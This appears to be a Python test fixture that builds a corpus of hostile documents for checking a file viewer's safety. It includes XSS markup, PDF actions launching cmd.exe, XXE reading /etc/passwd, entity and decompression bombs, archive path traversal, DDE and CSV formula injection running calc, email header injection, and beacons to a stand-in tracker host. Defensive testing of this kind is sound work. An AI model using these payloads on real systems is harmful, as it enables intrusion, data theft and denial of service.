"""Documents made to hurt whoever looks at them: markup, scripts, bombs, lies about what they are, and mails that tell
who reads them. Each is made when it is asked for."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.copies.corpus import office
from tests.copies.corpus.hostile import HOSTILE as HOSTILE_COPIES
from tests.copies.corpus.images import encoded, png_header
from tests.copies.corpus.mail import mail
from tests.copies.corpus.pdf import pdf, with_attachment, with_form, with_script
from tests.copies.corpus.zips import deflated_zeros, pack

FAR = "http://tracker.example:9/pixel"
"""What must never be asked for."""
MARK = "MARK-OF-TEXT"


@dataclass(frozen=True, slots=True)
class Case:
    """A document, how it must be shown (any of these kinds), a code that must be told, and a text that must be seen."""

    make: Callable[[], bytes]
    kinds: tuple[str, ...]
    code: str = ""
    seen: str = ""
    raw: bool = False
    """True where the browser may draw the bytes."""


def _html(inner: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head>{head}</head><body>{inner}<p>{MARK}</p></body></html>".encode()


def _svg(inner: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
        f"{inner}<text>{MARK}</text></svg>"
    ).encode()


def _action(**entries: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(Type=Name.Action, **entries)  # type: ignore[arg-type]  # objects of a PDF

    return change


def _xfa(document: Pdf) -> None:
    form = document.make_stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
    )
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def _link(document: Pdf) -> None:
    document.pages[0].Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 595, 842]),
                A=Dictionary(S=Name.URI, URI=String(FAR)),
            )
        ]
    )


def _page_actions(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{FAR}')")))


def _nested_mail(depth: int) -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"] = "a@b.example", "innermost"
    message.set_content(MARK)
    content = message.as_bytes()
    for number in range(depth):
        boundary = f"b{number}"
        content = (
            (
                f"From: a@b.example\r\nTo: c@d.example\r\nSubject: level {number}\r\nMIME-Version: 1.0\r\n"
                f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n'
                "Content-Type: message/rfc822\r\n\r\n"
            ).encode()
            + content
            + f"\r\n--{boundary}--\r\n".encode()
        )
    return content


def _nested_parts(depth: int) -> bytes:
    head = "From: a@b.example\r\nTo: c@d.example\r\nSubject: parts\r\n"
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth))
    return f"{head}{parts}Content-Type: text/plain\r\n\r\n{MARK}".encode()


def _png_with_tail(tail: bytes) -> bytes:
    return encoded("PNG") + tail


def _big_png(width: int, height: int) -> bytes:
    """A picture that is whole, of one colour, and unpacks to gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = deflated_zeros((1 + (width + 7) // 8) * height)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _big_tiff() -> bytes:
    """A TIFF whose directory says 100,000 × 100,000 pixels in one strip of nothing."""
    tags = [(256, 4, 100_000), (257, 4, 100_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (279, 4, 1)]
    directory = struct.pack("<H", len(tags))
    for tag, kind, value in tags:
        directory += struct.pack("<HHII", tag, kind, 1, value)
    return b"II*\0" + struct.pack("<I", 8) + directory + bytes(4)


def _tar(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, link
        archive.addfile(entry, io.BytesIO(b""))
    return file.getvalue()


def _xlsx_rows(count: int) -> bytes:
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:XFD{count}"/><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{MARK}</t></is></c></row>'
        f'<row r="{count}"><c r="A{count}" t="inlineStr"><is><t>last</t></is></c></row></sheetData></worksheet>'
    )
    return office.xlsx([["x"]], extra={"xl/worksheets/sheet1.xml": sheet})


def _ods_rows() -> bytes:
    ns = "urn:oasis:names:tc:opendocument:xmlns:"
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{ns}office:1.0" xmlns:table="{ns}table:1.0"'
        f' xmlns:text="{ns}text:1.0"><office:body><office:spreadsheet><table:table table:name="A">'
        f'<table:table-row table:number-rows-repeated="999999999"><table:table-cell'
        f' table:number-columns-repeated="999999999"><text:p>{MARK}</text:p></table:table-cell></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    types = "application/vnd.oasis.opendocument.spreadsheet"
    return pack({"mimetype": types, "content.xml": content}, stored=("mimetype",))


def _remote_template() -> bytes:
    relation = ("rId9", "attachedTemplate", f"{FAR}.dotm", True)
    return office.docx(
        MARK, office.paragraph(office.field('DDEAUTO c:\\\\cmd.exe "/k calc"', "x")), relations=[relation]
    )


def _ole_docx() -> bytes:
    return office.docx(MARK, extra={"word/embeddings/oleObject1.bin": b"MZ\x90\0evil", "word/vbaProject.bin": b"x"})


def _tracking_mail() -> bytes:
    html = (
        f'<style>@import "{FAR}";</style><p>{MARK}</p><img src="{FAR}" width=1 height=1>'
        f'<table background="{FAR}"><tr><td style="background:url({FAR})">x</td></tr></table>'
        f'<iframe src="{FAR}"></iframe><object data="{FAR}"></object><form action="{FAR}"><input></form>'
        f'<link rel=stylesheet href="{FAR}"><a href="javascript:alert(1)">press</a>'
    )
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@b.example", "c@d.example", "news"
    message.set_content(html, subtype="html")
    return message.as_bytes()


def _header_injection() -> bytes:
    return (
        b"From: =?utf-8?q?Kari=0D=0ABcc=3A_evil=40x.example?= <kari@a.example>\r\n"
        b"To: ola@b.example\r\nSubject: =?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg0KWC1FdmlsOiAx?=\r\n"
        b"Content-Type: text/plain\r\n\r\n" + MARK.encode()
    )


DOCUMENTS: dict[str, Case] = {
    # markup
    "script.html": Case(lambda: _html("<script>alert(1);fetch('" + FAR + "')</script>"), ("writing",), "scripts", MARK),
    "refresh.html": Case(
        lambda: _html("x", f'<meta http-equiv=refresh content="0;url={FAR}"><base href="{FAR}/">'),
        ("writing",),
        "",
        MARK,
    ),
    "handlers.html": Case(
        lambda: _html(
            f'<img src=x onerror="alert(1)"><svg onload="alert(1)"><iframe srcdoc="<script>alert(1)</script>">'
            f'</iframe><video src="{FAR}" autoplay></video></svg>'
        ),
        ("writing",),
        "",
        "",
    ),
    "unclosed.html": Case(
        lambda: (
            b"<!DOCTYPE html><html><body></section></main></body>"
            + MARK.encode()
            + b"<textarea><plaintext><!--<script>"
        ),
        ("writing",),
        "",
        MARK,
    ),
    "named-as.txt": Case(lambda: _html("<script>alert(1)</script>"), ("writing",), "name-differs", MARK),
    "utf7.html": Case(
        lambda: b'<html><meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4- ' + MARK.encode(),
        ("writing",),
        "",
        MARK,
    ),
    "utf16.html": Case(
        lambda: b"\xff\xfe" + f"<html><script>alert(1)</script>{MARK}</html>".encode("utf-16-le"),
        ("writing",),
        "",
        MARK,
    ),
    "script.svg": Case(lambda: _svg("<script>alert(1)</script>"), ("text",), "", MARK),
    "foreign.svg": Case(
        lambda: _svg(
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{FAR}"/></foreignObject>'
            f'<image xlink:href="{FAR}"/><use href="{FAR}#a"/>'
        ),
        ("text",),
        "",
        MARK,
    ),
    "stylesheet.xml": Case(
        lambda: f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{FAR}"?><a>{MARK}</a>'.encode(),
        ("text",),
        "",
        MARK,
    ),
    "laughs.xml": Case(
        lambda: (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol">'
            + "".join(
                f'<!ENTITY c{n} "{"&c" + str(n - 1) + ";" if n else "&b;"}' * 1
                + f'{"&c" + str(n - 1) + ";" if n else "&b;"}">'
                for n in range(40)
            )
            + f"]><a>&c39;{MARK}</a>"
        ).encode(),
        ("text",),
        "",
        MARK,
    ),
    "external.xml": Case(
        lambda: (
            f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % c SYSTEM "{FAR}"> %c;]>'
            f"<a>&b;{MARK}</a>".encode()
        ),
        ("text",),
        "",
        MARK,
    ),
    "markup.json": Case(
        lambda: b'{"a": "</script><script>alert(1)</script>", "b": "' + MARK.encode() + b'"}', ("text",), "", MARK
    ),
    "deep.json": Case(lambda: b"[" * 200_000 + b"]" * 200_000, ("text",)),
    # PDF
    "javascript.pdf": Case(lambda: pdf([MARK], with_script), ("pdf",), "pdf-scripts", MARK),
    "page-script.pdf": Case(lambda: pdf([MARK], _page_actions), ("pdf",), "pdf-scripts", MARK),
    "launch.pdf": Case(lambda: pdf([MARK], _action(S=Name.Launch, F=String("cmd.exe"))), ("pdf",), "pdf-launch", MARK),
    "uri.pdf": Case(lambda: pdf([MARK], _action(S=Name.URI, URI=String(FAR))), ("pdf",), "pdf-actions", MARK),
    "link.pdf": Case(lambda: pdf([MARK], _link), ("pdf",), "pdf-links", raw=True),
    "submit.pdf": Case(
        lambda: pdf([MARK], with_form, _action(S=Name.SubmitForm, F=String(FAR))), ("pdf",), "pdf-forms", MARK
    ),
    "remote.pdf": Case(
        lambda: pdf([MARK], _action(S=Name.GoToR, F=String("//evil/share.pdf"))), ("pdf",), "pdf-elsewhere", MARK
    ),
    "xfa.pdf": Case(lambda: pdf([MARK], _xfa), ("pdf",), "pdf-forms", MARK),
    "embedded.pdf": Case(lambda: pdf([MARK], with_attachment), ("pdf",), "pdf-files", MARK),
    "locked.pdf": Case(lambda: pdf([MARK], lock="hemmelig"), ("facts",), "password"),
    "broken.pdf": Case(lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, ("facts",), "damaged"),
    "with-page.pdf": Case(
        lambda: b"<html><script>alert(1)</script>" + MARK.encode() + b"\n" + pdf(["x"]), ("writing",), "", MARK
    ),
    # mails
    "tracking.eml": Case(_tracking_mail, ("mail",), "body-of-markup", MARK),
    "injection.eml": Case(_header_injection, ("mail",), "", MARK),
    "nested.eml": Case(lambda: _nested_mail(200), ("mail",), "", "level 199"),
    "parts.eml": Case(lambda: _nested_parts(200), ("mail",), "mail-not-taken-apart", "parts"),
    "charset.eml": Case(
        lambda: (
            b"From: a@b.no\r\nTo: c@d.no\r\nSubject: x\r\nContent-Type: text/plain; charset=no-such\r\n\r\n"
            b"\xe6\xf8\xe5 " + MARK.encode()
        ),
        ("mail",),
        "",
        MARK,
    ),
    "names.eml": Case(
        lambda: mail(
            "x",
            MARK,
            attachments=(("../../<script>alert(1)</script>.html", "text/html", b"<script>alert(1)</script>"),),
        ),
        ("mail",),
        "",
        "../../<script>alert(1)</script>.html",
    ),
    # archive files
    "traversal.zip": Case(lambda: pack({"../../etc/evil": "x"}), ("facts",), "fault"),
    "traversal.tar": Case(lambda: _tar("../../evil"), ("facts",), "fault"),
    "link.tar": Case(lambda: _tar("a", tarfile.SYMTYPE, "/etc/passwd"), ("facts", "members"), ""),
    "names.zip": Case(
        lambda: pack({"<script>alert(1)</script>\u202egpj.exe": MARK}), ("members",), "", "<script>alert(1)</script>"
    ),
    "bomb.gz": Case(lambda: gzip.compress(bytes(300_000_000)), ("facts", "members"), ""),
    # pictures and polyglots
    "tail.png": Case(lambda: _png_with_tail(b"<html><script>alert(1)</script></html>"), ("picture",), "", raw=True),
    "gifar.gif": Case(lambda: encoded("GIF", "P") + pack({"Evil.class": "x"}), ("picture",), "", raw=True),
    "comment.gif": Case(lambda: b"GIF89a/*" + encoded("GIF", "P")[8:] + b"*/=1;alert(1)", ("picture", "facts"), ""),
    "as.jpg": Case(lambda: _html("<script>alert(1)</script>"), ("writing",), "name-differs", MARK),
    "bomb.png": Case(lambda: _big_png(100_000, 90_000), ("facts",), "too-many-pixels"),
    "header.png": Case(lambda: png_header(60_000, 60_000), ("facts",), "too-many-pixels"),
    "bomb.tiff": Case(_big_tiff, ("facts",), ""),
    "font.ttf": Case(lambda: b"\0\1\0\0\0\x0f" + bytes(range(256)) * 10, ("facts",)),
    "program.pdf": Case(lambda: b"MZ\x90\0" + bytes(60) + bytes(range(256)) * 10, ("facts",), "name-differs"),
    # texts
    "escapes.txt": Case(lambda: f"\x1b]0;title\x07\x1b[2J\x1b[31m{MARK}\x1b[0m\x9b2J\n".encode(), ("text",), "", "␛"),
    "bidi.txt": Case(
        lambda: f"invoice\u202egpj.exe \u2066{MARK}\u2069 \u200b\ufeffx\n".encode(), ("text",), "", "‹U+202E›"
    ),
    "marks.txt": Case(lambda: ("a" + "\u0335" * 100_000 + MARK + "\n").encode(), ("text",), "", "more characters"),
    "lines.txt": Case(lambda: b"".join(b"line %d\n" % n for n in range(1_000_000)), ("text",), "", "line 499"),
    "long.txt": Case(lambda: MARK.encode() + b"x" * 30_000_000, ("text",), "", "more characters"),
    "quotes.csv": Case(lambda: b'a;b\n1;2\n3;"' + b"x;y\n" * 400_000, ("sheet", "text"), ""),
    "formulas.csv": Case(
        lambda: f"name;value\n{MARK};=HYPERLINK(\"{FAR}\")\nx;=cmd|'/c calc'!A1\n".encode(),
        ("sheet",),
        "",
        "=cmd|'/c calc'!A1",
    ),
    "wide.csv": Case(
        lambda: (
            b";".join(b"c%d" % n for n in range(20_000)) + b"\n" + b";".join(b"1" for _ in range(20_000)) + b"\n" * 2
        ),
        ("sheet", "text"),
        "",
    ),
    # office documents
    "template.docx": Case(_remote_template, ("writing",), "external-content", MARK),
    "macro.docx": Case(_ole_docx, ("writing",), "embedded-objects", MARK),
    "markup.docx": Case(
        lambda: office.docx(
            "<script>alert(1)</script>".replace("<", "\u2039"),
            MARK,
            "</div><img src=x onerror=alert(1)>".replace("<", "&lt;"),
        ),
        ("writing",),
        "",
        MARK,
    ),
    "rows.xlsx": Case(lambda: _xlsx_rows(10**9), ("sheet",), "", MARK),
    "rows.ods": Case(_ods_rows, ("sheet",), "", MARK),
    "link.rtf": Case(
        lambda: (
            b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "'
            + FAR.encode()
            + b'"}{\\fldrslt }}{\\object\\objdata 4d5a}'
            + MARK.encode()
            + b"}"
        ),
        ("writing",),
        "embedded-objects",
        MARK,
    ),
}
ANY = ("facts", "writing", "sheet", "pdf", "picture", "text", "mail", "members")
COPIED = (
    *("bombe-ratio.docx", "bombe-tomme-avsnitt.docx", "bombe-tabeller.docx", "bombe-medlemmer.zip", "bombe-nøstet.zip"),
    *("bombe-ratio.zip", "bombe-ratio.xlsx", "bombe-entiteter.docx", "bombe-entiteter.xlsx", "bombe-entiteter.odt"),
    *("bombe-entiteter.svg", "lang-celle.xlsx", "løgn-om-størrelse.docx", "støy.doc", "låst.docx", "fillenke.odt"),
    *("dyp.rtf", "lenker-uten-slutt.html", "dyp.html", "ring.pdf", "endeløst-skjema.pdf", "makro.docm"),
)
DOCUMENTS |= {f"copy-{name}": Case(HOSTILE_COPIES[name], ANY) for name in COPIED}
